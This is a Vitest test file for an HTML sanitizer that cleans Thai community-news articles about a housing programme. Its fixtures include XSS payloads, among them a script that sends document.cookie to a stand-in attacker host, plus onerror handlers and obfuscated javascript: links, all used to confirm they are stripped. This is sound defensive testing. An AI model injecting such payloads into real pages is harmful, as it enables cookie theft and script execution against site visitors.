import { describe, expect, it } from 'vitest';
import { htmlToText, sanitizeBody } from './sanitize.js';

const youtube =
  '<iframe src="https://www.youtube-nocookie.com/embed/Xb7sQ2mKp4A" width="560" height="315" ' +
  'allow="encrypted-media; picture-in-picture" allowfullscreen title="เวทีบ้านมั่นคง บ้านดุง"></iframe>';

describe('sanitizeBody removes', () => {
  it('scripts and styles with their contents', () => {
    const html =
      '<p>สภาองค์กรชุมชนตำบลบ้านดุงจัดเวที<script>fetch("https://evil.example/?c="+document.cookie)</script></p>' +
      '<style>p { display: none }</style>';
    expect(sanitizeBody(html)).toBe('<p>สภาองค์กรชุมชนตำบลบ้านดุงจัดเวที</p>');
  });

  it('event handlers, style and class attributes', () => {
    const html =
      '<p onclick="steal()" style="color:red" class="lead">ชาวบ้าน<strong onmouseover="x()">ร่วมวางแผน</strong></p>';
    expect(sanitizeBody(html)).toBe('<p>ชาวบ้าน<strong>ร่วมวางแผน</strong></p>');
  });

  it('an image whose src is refused, with its onerror handler', () => {
    const html =
      '<img src="x" onerror="alert(1)"><img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="แผนที่">' +
      '<img src="javascript:alert(1)">';
    expect(sanitizeBody(html)).toBe('');
  });

  it('javascript:, vbscript: and data: links, however they are spelled', () => {
    const html =
      '<a href="javascript:alert(1)">ก</a><a href="JaVaScRiPt:alert(1)">ข</a><a href=" java&#x09;script:alert(1)">ค</a>' +
      '<a href="vbscript:msgbox(1)">ง</a><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">จ</a>';
    const rel = 'rel="noopener noreferrer"';
    expect(sanitizeBody(html)).toBe(`<a ${rel}>ก</a><a ${rel}>ข</a><a ${rel}>ค</a><a ${rel}>ง</a><a ${rel}>จ</a>`);
  });

  it('iframes from other hosts, other paths or plain http', () => {
    const html =
      '<iframe src="https://evil.example/embed/Xb7sQ2mKp4A"></iframe>' +
      '<iframe src="http://www.youtube-nocookie.com/embed/Xb7sQ2mKp4A"></iframe>' +
      '<iframe src="https://www.youtube.com/embed/Xb7sQ2mKp4A"></iframe>' +
      '<iframe src="https://www.youtube-nocookie.com/watch?v=Xb7sQ2mKp4A"></iframe>' +
      '<iframe src="https://www.facebook.com/codi.thailand"></iframe>' +
      '<iframe src="/embed/local"></iframe><iframe>no source</iframe>';
    expect(sanitizeBody(html)).toBe('');
  });

  it('SVG and MathML with everything inside them', () => {
    const html =
      '<p>ก่อน</p><svg onload="alert(1)"><text>svg</text><script>alert(2)</script></svg><math><mi>x</mi></math>';
    expect(sanitizeBody(html)).toBe('<p>ก่อน</p>');
  });

  it('tags outside the allow-list but keeps their text', () => {
    expect(sanitizeBody('<div><span>จังหวัด</span><font>อุดรธานี</font></div><h1>หัวข้อ</h1>')).toBe('จังหวัดอุดรธานีหัวข้อ');
  });
});

describe('sanitizeBody keeps', () => {
  it('headings, paragraphs, emphasis and quotes', () => {
    const html =
      '<h2>เวทีแลกเปลี่ยนเรื่องบ้านมั่นคง</h2><h3>อุดรธานี</h3><p><em>ชาวบ้าน</em>กล่าวว่า <q>เราทำได้</q></p>' +
      '<blockquote><p>“บ้านมั่นคงไม่ใช่แค่บ้าน แต่คือชุมชน”</p><cite>ประธานสภาองค์กรชุมชน</cite></blockquote><hr>';
    expect(sanitizeBody(html)).toBe(html.replace('<hr>', '<hr />'));
  });

  it('links, with rel forced to noopener noreferrer', () => {
    const html =
      '<a href="https://codi.or.th/news" title="พอช." target="_blank" rel="opener">พอช.</a> ' +
      '<a href="mailto:news@example.org">ส่งข่าว</a> <a href="/stories/baan-mankong">ข่าวก่อนหน้า</a>';
    expect(sanitizeBody(html)).toBe(
      '<a href="https://codi.or.th/news" title="พอช." rel="noopener noreferrer">พอช.</a> ' +
        '<a href="mailto:news@example.org" rel="noopener noreferrer">ส่งข่าว</a> ' +
        '<a href="/stories/baan-mankong" rel="noopener noreferrer">ข่าวก่อนหน้า</a>',
    );
  });

  it('images in figures, with their allowed attributes only', () => {
    const html =
      '<figure><img src="https://cdn.example.org/bandung.jpg" alt="ชาวบ้านร่วมเวที" title="บ้านดุง" width="800" ' +
      'height="450" loading="lazy" srcset="data:x 1x" style="border:0"><figcaption>ภาพ: พอช.</figcaption></figure>';
    expect(sanitizeBody(html)).toBe(
      '<figure><img src="https://cdn.example.org/bandung.jpg" alt="ชาวบ้านร่วมเวที" title="บ้านดุง" width="800" ' +
        'height="450" loading="lazy" /><figcaption>ภาพ: พอช.</figcaption></figure>',
    );
  });

  it('lists and tables', () => {
    const html =
      '<ul><li>สำรวจข้อมูล</li><li>ออมทรัพย์</li></ul><ol><li>ออกแบบบ้าน</li></ol>' +
      '<table><thead><tr><th>ปี</th><th>หลัง</th></tr></thead><tbody><tr><td>2567</td><td>120</td></tr></tbody></table>';
    expect(sanitizeBody(html)).toBe(html);
  });

  it('a youtube-nocookie embed and a Facebook video embed', () => {
    const facebook =
      '<iframe src="https://www.facebook.com/plugins/video.php?href=https%3A%2F%2Fwww.facebook.com%2Fcodi%2Fvideos%2F1" ' +
      'width="500" height="280" allowfullscreen></iframe>';
    expect(sanitizeBody(`<p>ชมวิดีโอ</p>${youtube}${facebook}`)).toBe(`<p>ชมวิดีโอ</p>${youtube}${facebook}`);
  });
});

describe('htmlToText', () => {
  it('separates blocks, joins inline runs and decodes entities', () => {
    const html =
      '<h2>สภาองค์กรชุมชนตำบลบ้านดุง</h2><p>ชาวบ้าน<strong>อุดรธานี</strong>ร่วมวางแผนกับ&nbsp;พอช.</p>' +
      '<p>ทุน 3&nbsp;ล้านบาท &amp; ที่ดิน &lt;20 ไร่&gt; &quot;ครบ&quot; &amp;lt;</p><ul><li>ออมทรัพย์</li><li>ออกแบบ</li></ul>' +
      '<div>ก<br>ข</div>';
    expect(htmlToText(html)).toBe(
      [
        'สภาองค์กรชุมชนตำบลบ้านดุง',
        'ชาวบ้านอุดรธานีร่วมวางแผนกับ พอช.',
        'ทุน 3 ล้านบาท & ที่ดิน <20 ไร่> "ครบ" &lt;',
        'ออมทรัพย์',
        'ออกแบบ',
        'ก',
        'ข',
      ].join('\n'),
    );
  });

  it('leaves out scripts, styles and embeds', () => {
    const html = `<p>ก่อน</p><script>alert("x")</script><style>p{}</style>${youtube}<p>หลัง</p>`;
    expect(htmlToText(html)).toBe('ก่อน\nหลัง');
  });

  it('gives an empty string for markup without text', () => {
    expect(htmlToText('<p> </p><img src="https://cdn.example.org/a.jpg" alt="ภาพ">')).toBe('');
  });
});
